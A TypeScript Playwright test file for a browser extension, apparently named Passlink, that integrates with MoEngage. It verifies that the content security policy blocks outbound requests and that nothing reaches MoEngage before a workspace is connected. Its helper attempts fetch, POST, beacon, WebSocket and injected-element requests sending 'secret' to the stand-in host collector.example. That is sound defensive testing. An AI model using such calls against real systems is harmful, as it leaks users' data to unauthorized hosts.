import { expect, test } from '@playwright/test';

import { launchPasslink } from '../support/extension.ts';
import { createMoEngage } from '../support/moengage/index.ts';

/**
 * Tries every way in which code of ours could send something, and gives those that the browser
 * stopped by our policy, once there are as many as expected. The host does not exist: only the policy's own word counts.
 */
async function stoppedByPolicy(expected: number): Promise<string[]> {
  const host = 'collector.example';
  const stopped: string[] = [];
  globalThis.addEventListener('securitypolicyviolation', (event) => {
    const { blockedURI, effectiveDirective } = event as SecurityPolicyViolationEvent;
    stopped.push(`${effectiveDirective} ${new URL(blockedURI).pathname}`);
  });
  const tries = [
    fetch(`https://${host}/fetch`, { mode: 'no-cors' }),
    fetch(`https://${host}/post`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  ];
  await Promise.allSettled(tries);
  new WebSocket(`wss://${host}/socket`).addEventListener('error', () => undefined);
  const events = new EventSource(`https://${host}/events`);
  if ('document' in globalThis) {
    navigator.sendBeacon(`https://${host}/beacon`, 'secret');
    for (const name of ['img', 'script', 'iframe'] as const) {
      const element = document.createElement(name);
      element.src = `https://${host}/${name}`;
      document.body.append(element);
    }
  }
  // Of a frame the browser tells the host alone; a script is told twice.
  const told = () => [...new Set(stopped)].toSorted();
  while (told().length < expected) await new Promise((resolve) => setTimeout(resolve, 20));
  events.close();
  return told();
}

const CONNECTIONS = ['/events', '/fetch', '/post', '/socket'];

test('the content policy keeps background and pages from reaching any host but MoEngage’s', async () => {
  const passlink = await launchPasslink();
  const inWorker = await passlink.worker.evaluate(stoppedByPolicy, CONNECTIONS.length);
  expect(inWorker).toEqual(CONNECTIONS.map((path) => `connect-src ${path}`));
  for (const page of [await passlink.openPopup(), await passlink.openOptions()]) {
    expect(await page.evaluate(stoppedByPolicy, CONNECTIONS.length + 4)).toEqual(
      [
        ...[...CONNECTIONS, '/beacon'].map((path) => `connect-src ${path}`),
        'frame-src /',
        'img-src /img',
        'script-src-elem /script',
      ].toSorted(),
    );
  }
  await passlink.close();
});

test('MoEngage’s servers receive nothing before the author has connected a workspace', async () => {
  const moengage = createMoEngage({
    workspaceId: 'WORKSPACE_1',
    dataKey: 'the-data-key',
    campaignKey: 'the-campaign-key',
    dataCenter: '03',
  });
  const { port } = await moengage.listen();
  const passlink = await launchPasslink({ moengage: { port } });
  const options = await passlink.openOptions();
  for (const place of ['moengage/connection', 'moengage/events', 'moengage/test', 'vault']) {
    await options.goto(`${options.url().split('#')[0]}#/${place}`);
    await options.getByRole('heading', { level: 1 }).waitFor();
  }
  await passlink.openPopup();
  expect(moengage.received).toEqual([]);
  // The policy lets it through; the browser's own permission does not.
  const mayRead = await passlink.worker.evaluate(() =>
    chrome.permissions.contains({ origins: ['https://api-01.moengage.com/*'] }),
  );
  expect(mayRead).toBe(false);
  await passlink.close();
  await moengage.close();
});
